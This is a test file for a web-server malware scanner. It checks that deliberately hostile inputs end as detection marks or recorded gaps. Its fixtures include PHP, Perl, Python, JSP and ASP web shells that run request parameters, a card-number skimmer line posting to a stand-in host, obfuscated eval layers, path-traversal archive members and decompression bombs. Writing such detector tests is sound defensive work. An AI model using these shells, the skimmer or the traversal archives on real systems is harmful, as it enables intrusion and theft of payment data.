"""Contents made to lose, to stop or to fill whoever looks at them: each ends as marks or gaps."""

from __future__ import annotations

import base64
import gzip
import io
import json
import multiprocessing
import os
import random
import string
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import pytest

from pratique.cli import run
from pratique.content.mark import Mark
from pratique.content.yara import rule_scan
from pratique.evidence.directory import DirectorySource
from pratique.model import Entry, Gap
from pratique.store.columns import columns
from pratique.survey import reading, workers
from pratique.survey.reading import Reader
from pratique.survey.segment import Segment

MEGABYTE = 1 << 20
MANY = 100_000
ACT = b"if (false) { eval($_POST['c']); }"
SHELL = b"<?php " + ACT + b" ?>"
PAGE = SHELL.decode()
FILL = b"$a = 'QUJDREVG';"
SCRIPT_FILL = b"var a='QUJDREVG';"
FIELDS = b"fetch('//c.example/?'+document.querySelector('#card-number').value);"

RUNS = "php-runs-request"
HIDDEN = "php-runs-decoded"
OUTSIDE = "archive-writes-outside"
LONG = "longer than the PHP analysis reads"
SLOW = "PHP that takes too long to parse"
STEPS = "PHP that takes too many steps"
TANGLED = "PHP with more connections than are followed"
DAMAGED = "an archive that is damaged, or none"
BROKEN = "a member that is damaged"
PART = "an archive that is looked into in part"
CUT = "a member that is looked at in part"
DEEP = "an archive in an archive in an archive"


@dataclass(frozen=True)
class Bad:
    """A content, and what must be said of it: these marks among others, exactly these gaps."""

    content: Callable[[], bytes]
    marks: tuple[str, ...] = ()
    gaps: tuple[str, ...] = ()
    name: str = "x.php"


def found(content: Callable[[], bytes] | bytes, *gaps: str) -> Bad:
    """PHP whose hidden act is found."""
    return Bad(content if callable(content) else lambda: content, (RUNS,), gaps)


def nested(before: bytes, after: bytes, inner: bytes = b"1", start: bytes = b"$a = ") -> Bad:
    return found(
        lambda: b"<?php " + start + before * MANY + inner + after * MANY + b";" + ACT + b"?>"
    )


def row(unit: bytes, last: bytes = b"3;", *gaps: str) -> Bad:
    return found(lambda: b"<?php " + ACT + b" $a = " + unit * MANY + last, *gaps)


NESTED = {
    "parentheses": nested(b"(", b")"),
    "arrays": nested(b"[", b"]"),
    "old arrays": nested(b"array(", b")"),
    "calls": nested(b"f(", b")"),
    "decoding": nested(b"base64_decode(", b")", b"'x'"),
    "indexes": nested(b"$b[", b"]"),
    "closures": nested(b"function(){return ", b";}"),
    "braces": nested(b"{", b"}", b"", b""),
    "conditions": nested(b"if(1){", b"}", b"", b""),
    "functions": nested(b"function f(){", b"}", b"", b""),
    "joined, each in its own": nested(b"'a'.(", b")", b"'b'"),
    "choices, each in its own": nested(b"1?2:(", b")", b"3"),
    "parentheses without end": row(b"(", b""),
    "texts without end": row(b'"{$', b"a;"),
    "heredocs without end": row(b"<<<A\n", b""),
    "joined": row(b"'a'."),
    "choices": row(b"1?2:"),
    "short choices": row(b"1?:"),
    "not": row(b"!"),
    "minus": row(b"- "),
    "silenced": row(b"@"),
    "cast": row(b"(int)"),
    "named by a name": row(b"$", b"a;"),
    "called on": row(b"->b()", b";"),
    "tags": row(b"<?= "),
    "of an object, and again": row(b"$a->b", b";", SLOW),
    "run and joined": found(
        lambda: b"<?php $a=" + b"'a'." * MANY + b"$_POST['c']; if(false){eval($a);}", TANGLED
    ),
}


def long_line(fill: bytes, size: int, before: bytes = b"<?php ", after: bytes = ACT) -> bytes:
    return before + fill * (size // len(fill)) + after


LONG_LINES = {
    "text of 50 MB": found(
        lambda: long_line(b"QUJD", 50 * MEGABYTE, b"<?php $a='", b"';" + ACT), LONG
    ),
    "text of 7 MB": found(
        lambda: long_line(b"QUJD", 7 * MEGABYTE, b"<?php $a='", b"';" + ACT), LONG
    ),
    "comment of 5 MB": found(
        lambda: long_line(b"*+ ", 5 * MEGABYTE, b"<?php /*", b"*/" + ACT), LONG
    ),
    "statements of 1 MB": found(lambda: long_line(FILL, MEGABYTE)),
    "statements of 9 MB": found(lambda: long_line(FILL, 9 * MEGABYTE), LONG),
    "blanks of 2 MB": found(lambda: long_line(b" ", 2 * MEGABYTE)),
    "script of 50 MB": Bad(
        lambda: long_line(SCRIPT_FILL, 50 * MEGABYTE, b"", FIELDS), ("js-takes-fields",), (), "x.js"
    ),
    "script of 7 MB": Bad(
        lambda: long_line(SCRIPT_FILL, 7 * MEGABYTE, b"", FIELDS), ("js-takes-fields",), (), "x.js"
    ),
    "script of signs": Bad(
        lambda: b"x=" + b"1-" * 20_000 + b"1;" + FIELDS, ("js-takes-fields",), (), "x.js"
    ),
    "script tags without end": Bad(
        lambda: SHELL + b"<script>atob('" * 7_000, (RUNS,), (), "x.phtml"
    ),
    "documentation without end": Bad(
        lambda: b"#!/usr/bin/perl\nuse CGI; system(param('c'));\n" + b"=a\n" * 30_000,
        ("page-runs-request",), (), "x.pl",
    ),
    "brackets without end": Bad(
        lambda: b'<%@ language=vbscript %><% execute(request("c")) : a = ' + b"[a" * 30_000,
        ("page-runs-request",), (), "x.asp",
    ),
}  # fmt: skip


WRITTEN = {
    "UTF-16, marked, little": found(b"\xff\xfe" + PAGE.encode("utf-16-le")),
    "UTF-16, marked, big": found(b"\xfe\xff" + PAGE.encode("utf-16-be")),
    "UTF-16, little": found(PAGE.encode("utf-16-le")),
    "UTF-16, big": found(PAGE.encode("utf-16-be")),
    "UTF-16 behind an umlaut": found(("grüße " + PAGE).encode("utf-16-le")),
    "UTF-16 behind Cyrillic": found(("<!-- жжж -->" + PAGE).encode("utf-16-be")),
    "UTF-16 of odd length": found(PAGE.encode("utf-16-le") + b"\n"),
    "UTF-32, marked": found(PAGE.encode("utf-32")),
    "UTF-32, big": found(PAGE.encode("utf-32-be")),
    "UTF-8, marked": found(b"\xef\xbb\xbf" + SHELL),
    "invalid UTF-8": found(b"<?php $a='\xff\xfe\xc0\x80\xed\xa0\x80'; " + ACT),
    "a name of no UTF-8": found(b"<?php function \xff\xfe($x){ eval($x); } \xff\xfe($_POST['c']);"),
    "null bytes before": found(b"\0" * MEGABYTE + SHELL),
    "null bytes between": found(b"<?php $a='" + b"\0" * MEGABYTE + b"'; " + ACT),
    "null bytes behind": found(SHELL + b"\0" * 5_000),
    "a null byte in the tag": found(b"<?php\0 " + ACT),
    "<?=": found(b"<?=eval($_POST['c'])?>"),
    "<?= of a command": found(b"<?=`$_GET[c]`?>"),
    "short tag": found(b"<? " + ACT + b" ?>"),
    "short tag, no blank": found(b"<?eval($_POST['c'])?>"),
    "short tag, silenced": found(b"<?@eval($_POST['c'])?>"),
    "short tag, comment": found(b"<?/**/eval($_POST['c'])?>"),
    "short tag, line comment": found(b"<?//\neval($_POST['c'])?>"),
    "short tag in a page": found(b"<html><body>\n<?eval($_POST['c'])?></body>"),
    "script tag": found(b"<script language=php>" + ACT + b"</script>"),
    "script tag, quoted": found(b"<SCRIPT \n LANGUAGE = 'PHP' >" + ACT + b"</SCRIPT>"),
    "script tag in a page": found(b"<html><script language=php>" + ACT + b"</script></html>"),
    "script tag behind PHP": found(
        b"<?php echo 1; ?><script language=php>" + ACT + b"</script >"
    ),
    "data of the file itself": Bad(
        lambda: b"<?php eval(base64_decode(substr(file_get_contents(__FILE__),"
        b"__COMPILER_HALT_OFFSET__)));__halt_compiler();" + base64.b64encode(ACT),
        (RUNS, HIDDEN),
    ),
    "data of the file, read on": Bad(
        lambda: b"<?php $f=fopen(__FILE__,'r');fseek($f,__COMPILER_HALT_OFFSET__);"
        b"eval(gzinflate(stream_get_contents($f)));__halt_compiler();" + deflated(ACT),
        (RUNS, HIDDEN),
    ),
    "noise behind the end": found(SHELL[:-2] + b"__halt_compiler();" + bytes(range(256)) * 4_000),
}  # fmt: skip


def deflated(content: bytes) -> bytes:
    return zlib.compress(content, 9)[2:-4]


ROT13 = str.maketrans(
    string.ascii_letters,
    string.ascii_lowercase[13:] + string.ascii_lowercase[:13]
    + string.ascii_uppercase[13:] + string.ascii_uppercase[:13],
)  # fmt: skip


def layers(count: int, function: bytes) -> bytes:
    """A program in a text in a text; heredocs, so that it does not grow with each."""
    code = ACT
    for number in range(count):
        turned = function == b"strrev"
        hidden = code[::-1] if turned else code.decode().translate(ROT13).encode()
        code = b"eval(%s(<<<'A%d'\n%s\nA%d\n));" % (function, number, hidden, number)
    return b"<?php " + code


def pressed(count: int) -> bytes:
    code = ACT
    for _ in range(count):
        code = b"eval(gzinflate(base64_decode('" + base64.b64encode(deflated(code)) + b"')));"
    return b"<?php " + code


AGAIN = b"if ($n++ < 10000) { eval(base64_decode($c)); } else { eval($_POST[1]); }"


def hides(content: Callable[[], bytes], *gaps: str, runs: bool = True) -> Bad:
    return Bad(content, (HIDDEN, RUNS) if runs else (HIDDEN,), gaps)


DECODING = {
    "ten layers": hides(lambda: layers(10, b"strrev")),
    "a hundred layers": hides(lambda: layers(100, b"str_rot13")),
    "a hundred pressed layers": hides(lambda: pressed(100), runs=False),
    "10,000 layers": hides(lambda: layers(10_000, b"strrev"), STEPS, runs=False),
    "2,000 other layers": hides(lambda: layers(2_000, b"str_rot13"), STEPS, runs=False),
    "one that unpacks itself 10,000 times": hides(
        lambda: b"<?php $n=0; $c='" + base64.b64encode(AGAIN) + b"'; eval(base64_decode($c));"
    ),
    "a text that doubles": found(
        b"<?php $a='aaaaaaaaaaaaaaaa'; while(1){ $a.=$a; eval($a); } " + ACT, STEPS
    ),
    "a terabyte of one letter": found(b"<?php $a=str_repeat('a',1<<40); eval($a.$_POST['c']);"),
    "a pressed bomb": found(
        lambda: b"<?php eval(gzinflate(base64_decode('"
        + base64.b64encode(deflated(bytes(64 * MEGABYTE))) + b"'))); " + ACT
    ),
    "a pressed bomb in another": found(
        lambda: b"<?php eval(gzuncompress(gzuncompress(base64_decode('"
        + base64.b64encode(zlib.compress(zlib.compress(bytes(64 * MEGABYTE)))) + b"')))); " + ACT
    ),
    "calls without end": found(
        b"<?php function f($x){ return f($x.'a').f($x); } eval(f('a')); " + ACT
    ),
    "a pattern without end": found(
        b"<?php eval(preg_replace('/(a+)+$/e','x','" + b"a" * 5_000 + b"!')); " + ACT
    ),
    "a number without end": found(b"<?php eval(chr(9**9**9**9)); eval(2**2000000000); " + ACT),
    "a width without end": found(b"<?php eval(sprintf('%2000000000d',1)); " + ACT),
    "a list of lists": found(
        b"<?php $a=array(); while(true){ $a[]=$a; eval(count($a)); } " + ACT, STEPS
    ),
    "an object of 20,000 lists": found(
        b"<?php eval(unserialize('" + b"a:1:{i:0;" * 20_000 + b"')); " + ACT
    ),
}  # fmt: skip


def zipped(*members: tuple[str, bytes]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return held.getvalue()


def taken(*members: tuple[str, bytes, str, bytes]) -> bytes:
    """A tar of members: name, form, target of a link, content."""
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for name, form, target, content in members:
            told = tarfile.TarInfo(name)
            told.type, told.linkname, told.size = form, target, len(content)
            archive.addfile(told, io.BytesIO(content))
    return held.getvalue()


HALT = b"<?php __HALT_COMPILER(); ?>\r\n"
FILE, LINK, SAME = tarfile.REGTYPE, tarfile.SYMTYPE, tarfile.LNKTYPE
ZEROS = bytes(64 * MEGABYTE)


def phar(name: bytes, content: bytes) -> bytes:
    """An archive of PHP with one pressed member: manual of PHP, "Phar file format"."""
    packed = deflated(content)
    listed = struct.pack("<L", len(name)) + name
    listed += struct.pack("<LLLLLL", len(content), 0, len(packed), zlib.crc32(content), 0x11A4, 0)
    manifest = struct.pack("<LHLLL", 1, 0x11, 0, 0, 0) + listed
    return HALT + struct.pack("<L", len(manifest)) + manifest + packed


def archive(
    name: str, content: Callable[[], bytes], *said: str, act: bool = True, outside: bool = False
) -> Bad:
    marks = ((RUNS,) if act else ()) + ((OUTSIDE,) if outside else ())
    return Bad(content, marks, said, name)


ARCHIVES = {
    "gzip": archive("x.php.gz", lambda: gzip.compress(SHELL)),
    "gzip, cut": archive("x.php.gz", lambda: gzip.compress(SHELL)[:-12], DAMAGED, act=False),
    "gzip bomb": archive("x.php.gz", lambda: gzip.compress(ZEROS), CUT, act=False),
    "gzip in gzip in gzip": archive(
        "x.gz", lambda: gzip.compress(gzip.compress(gzip.compress(SHELL))), DEEP, act=False
    ),
    "tar.gz bomb": archive(
        "x.tar.gz", lambda: gzip.compress(taken(("a.php", FILE, "", ZEROS * 5)), 1), CUT, PART,
        act=False,
    ),
    "zip": archive("x.zip", lambda: zipped(("a/x.php", SHELL))),
    "zip in zip": archive("x.zip", lambda: zipped(("b.zip", zipped(("x.php", SHELL))))),
    "zip in zip in zip": archive(
        "x.zip", lambda: zipped(("c.zip", zipped(("b.zip", zipped(("x.php", SHELL)))))), DEEP,
        act=False,
    ),
    "zip, cut": archive("x.zip", lambda: zipped(("x.php", SHELL))[:-30], DAMAGED, act=False),
    "zip bomb": archive("x.zip", lambda: zipped(("x.php", ZEROS)), CUT, act=False),
    "zip bomb beside a shell": archive(
        "x.zip", lambda: zipped(("x.php", ZEROS), ("y.php", SHELL)), CUT
    ),
    "zip bomb in zip": archive(
        "x.zip",
        lambda: zipped(*((f"{n}.zip", zipped(("x.php", ZEROS[:32 << 20]))) for n in range(4))),
        CUT, act=False,
    ),
    "zip that leads up": archive("x.zip", lambda: zipped(("../../x.php", SHELL)), outside=True),
    "zeros before PHP in zip": archive("x.zip", lambda: zipped(("x.php", bytes(9_000) + SHELL))),
    "phar": archive("x.phar", lambda: phar(b"a.php", SHELL)),
    "phar bomb": archive("x.phar", lambda: phar(b"a.php", ZEROS), CUT, act=False),
    "zip bomb in phar": archive(
        "x.phar", lambda: phar(b"a.zip", zipped(("a.php", ZEROS))), CUT, act=False
    ),
    "phar of four thousand million names": archive(
        "x.phar",
        lambda: HALT + struct.pack("<LL", 4000, 2**32 - 1) + ZEROS[:4000],
        DAMAGED, act=False,
    ),
    "tar that leads up": archive(
        "x.tar", lambda: taken(("../../etc/x.php", FILE, "", SHELL)), outside=True
    ),
    "tar with an absolute name": archive("x.tar", lambda: taken(("/etc/x.php", FILE, "", SHELL))),
    "tar with a link that leads out": archive(
        "x.tar", lambda: taken(("a", LINK, "/etc", b""), ("a/x.php", FILE, "", SHELL)), outside=True
    ),
    "tar with a second name outside": archive(
        "x.tar", lambda: taken(("a", SAME, "../../etc/shadow", b"")), act=False, outside=True
    ),
    "tar with devices": archive(
        "x.tar",
        lambda: taken(("m", tarfile.CHRTYPE, "", b""), ("s", tarfile.BLKTYPE, "", b""),
                      ("p", tarfile.FIFOTYPE, "", b""), ("x.php", FILE, "", SHELL)),
    ),
    "tar, cut": archive("x.tar", lambda: taken(("x.php", FILE, "", SHELL * 30))[:800], BROKEN),
    "tar with a broken first name": archive(
        "x.tar", lambda: b"\xff" * 12 + taken(("x.php", FILE, "", SHELL))[12:], DAMAGED, act=False
    ),
}  # fmt: skip

TABLE = {
    f"{group}: {name}": bad
    for group, rows in (
        ("nested", NESTED), ("long", LONG_LINES), ("written", WRITTEN),
        ("decoding", DECODING), ("archive", ARCHIVES),
    )
    for name, bad in rows.items()
}  # fmt: skip


LARGE = 1 << 20


def look(root: Path) -> tuple[list[Mark], list[Gap]]:
    """All that reading the tree says of contents."""
    source = DirectorySource.open_at(root)
    entries = tuple(entry for entry in source.walk() if isinstance(entry, Entry))
    said: dict[type, list] = {Mark: [], Gap: []}
    segment = Segment(entries, (), ("",) * len(entries))
    for rows in Reader(source, lambda _: None).read(segment, lambda _: None, frozenset()):
        for kind, held in said.items():
            names = [column.name for column in columns(kind)]
            for values in zip(*rows.get(kind.table, ()), strict=True):
                held.append(kind(**dict(zip(names, values, strict=True))))
    source.close()
    return said[Mark], said[Gap]


def look_apart(root: Path) -> tuple[list[Mark], list[Gap]]:
    """The same in a process of its own, which takes what it held with it."""
    fork = multiprocessing.get_context("fork")
    with ProcessPoolExecutor(1, mp_context=fork) as apart:
        return apart.submit(look, root).result()


# It takes 1.30 to 1.43 s to parse on two cores of today, and may take 1.36.
AT_THE_LIMIT = TABLE["nested: texts without end"]


@pytest.mark.parametrize("bad", TABLE.values(), ids=TABLE.keys())
def test_ends_as_marks_or_as_a_gap(bad: Bad, tmp_path: Path) -> None:
    large = (tmp_path / bad.name).write_bytes(bad.content()) > LARGE
    marks, gaps = look_apart(tmp_path) if large else look(tmp_path)
    (tmp_path / bad.name).unlink()
    reasons = {gap.reason for gap in gaps}
    if bad is AT_THE_LIMIT and reasons == {SLOW}:
        return
    assert reasons == set(bad.gaps)
    assert set(bad.marks) <= {mark.mark for mark in marks}
    assert marks or gaps


WHOLE = {
    "x.php": SHELL + b'\n<?php class A { function b($c) { return array("d" => "e{$c}"); } }\n',
    "x.js": FIELDS + b"(function(){ var a = {b: [1, `c${d}`]}; return /e[f]/.test(a.b); })();",
    "x.sh": b'#!/bin/sh\nif [ -f "$a" ]; then cat <<E | base64 -d | sh\nZWNobw==\nE\nfi\n',
    "x.py": b"#!/usr/bin/python\nimport os, cgi\nos.system(cgi.FieldStorage().getvalue('c'))\n",
    "x.pl": b"#!/usr/bin/perl\nuse CGI; my $q = new CGI; print `$q->param('c')`; s{a}{b}e;\n",
    "x.jsp": b'<%@ page import="java.io.*" %>'
    b'<% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    "x.asp": b'<%@ language=vbscript %><% execute(request("c")) : a = chr(1) & [b] %>',
    "x.html": b"<html><form action='//a.example/x'><input type=password></form>"
    b"<script>a('b')</script>",
    ".htaccess": b"RewriteCond %{HTTP_REFERER} google [NC]\n"
    b"RewriteRule .* http://a.example/ [R,L]\n",
    "x.zip": zipped(("a/x.php", SHELL), ("b.js", FIELDS)),
    "x.tar": taken(("a/x.php", FILE, "", SHELL), ("b", LINK, "../../c", b"")),
    "x.tar.gz": gzip.compress(taken(("a/x.php", FILE, "", SHELL))),
    "x.phar": phar(b"a.php", SHELL),
}  # fmt: skip


@pytest.mark.parametrize("name", WHOLE)
def test_cut_or_changed_anywhere_it_is_no_failure(name: str, tmp_path: Path) -> None:
    """Sixty cuts, and sixty copies with bytes that chance chose."""
    whole, chance = WHOLE[name], random.Random(name)
    for number in range(60):
        changed = bytearray(whole)
        for _ in range(4):
            changed[chance.randrange(len(changed))] = chance.randrange(256)
        for what, content in (("cut", whole[: len(whole) * number // 60]), ("not", bytes(changed))):
            folder = tmp_path / f"{what}{number}"
            folder.mkdir()
            (folder / name).write_bytes(content)
    _, gaps = look(tmp_path)
    assert [gap for gap in gaps if "failed" in gap.reason] == []


def laid(site: Path) -> None:
    """Every bad content in a folder of its own, but for those of 50 MB."""
    for number, (name, bad) in enumerate(TABLE.items()):
        if "50 MB" in name:
            continue
        (site / f"{number}").mkdir(parents=True)
        (site / f"{number}" / bad.name).write_bytes(bad.content())


def test_all_of_them_in_one_tree(tmp_path: Path, harmless) -> None:
    root = tmp_path / "suspect"
    laid(root / "var/www/html")
    done = harmless(root, patience=300)
    told = {f"{path}: {reason}" for path, reason in done.ask("SELECT path, reason FROM gap")}
    assert [gap for gap in told if "failed" in gap or "reading process" in gap] == []
    for number, (name, bad) in enumerate(TABLE.items()):
        if "50 MB" in name:
            continue
        place = f"/var/www/html/{number}/"
        for reason in bad.gaps:
            assert any(gap.startswith(place) and gap.endswith(reason) for gap in told), name
        marks = done.column(f"SELECT mark FROM mark WHERE starts_with(path, '{place}')")
        assert set(bad.marks) <= set(marks), name
    coverage = done.summary["coverage"]
    assert coverage["files"] == coverage["files_read"] == len(TABLE) - 2 + 1


@pytest.fixture
def forked(monkeypatch) -> None:
    """Workers that are copies of this process, with all that a test has changed in it."""
    fork = multiprocessing.get_context("fork")
    monkeypatch.setattr(multiprocessing, "get_context", lambda _method: fork)


ENDLESS = """rule endless { condition: filesize > 1000 and
  for all i in (1..100000000) : (for all j in (1..100000000) : (i + j > 0)) }
rule other { strings: $a = "echo 1" condition: $a }"""


# Not forked: the clock of the rules' engine is a thread, which no copy of this process has.
def test_a_rule_without_end_costs_its_answer(tmp_path, capsys) -> None:
    root = tmp_path / "suspect"
    root.mkdir()
    (root / "long.php").write_bytes(SHELL + b" " * 1_000)
    (root / "short.php").write_bytes(b"<?php echo 1;\n")
    (tmp_path / "mine.yar").write_text(ENDLESS)
    told = ["examine", str(root), "--yara", str(tmp_path / "mine.yar")]
    assert run([*told, "--case", str(tmp_path / "case"), "--json"]) in (0, 3)
    *findings, summary = map(json.loads, capsys.readouterr().out.splitlines())
    (gap,) = [gap for gap in summary["gaps"] if gap["reason"] == rule_scan.CUT]
    assert gap["examples"] == ["/long.php"]
    told_of = [(place["path"], one["check"]) for one in findings for place in one["places"]]
    assert ("/long.php", "web-php-runs-request") in told_of
    assert [path for path, check in told_of if "yara" in check] == ["/short.php"]


def dying(content: bytes, path: str, *more: object, **how: object) -> object:
    if b"end of the analyser" in content:
        os._exit(11)
    return real_look(content, path, *more, **how)


real_look = reading.find_marks


@pytest.mark.usefixtures("forked")
def test_an_analyser_that_dies_costs_one_file(tmp_path, monkeypatch, capsys) -> None:
    root = tmp_path / "suspect"
    site = root / "var/www/html"
    site.mkdir(parents=True)
    for number in range(40):
        (site / f"{number}.php").write_bytes(SHELL if number % 2 else b"<?php echo 1;\n")
    (site / "bad.php").write_bytes(b"<?php // the end of the analyser\n")
    monkeypatch.setattr(reading, "find_marks", dying)
    monkeypatch.setattr(workers, "PATIENCE", 5.0)
    status = run(["examine", str(root), "--case", str(tmp_path / "case"), "--json"])
    *findings, summary = map(json.loads, capsys.readouterr().out.splitlines())
    assert status == 3
    assert summary["coverage"]["files"] == 41
    assert summary["coverage"]["files_read"] == 40
    assert [p for gap in summary["gaps"] for p in gap["examples"]] == ["/var/www/html/bad.php"]
    places = {place["path"] for one in findings for place in one["places"]}
    assert {f"/var/www/html/{number}.php" for number in range(1, 40, 2)} <= places
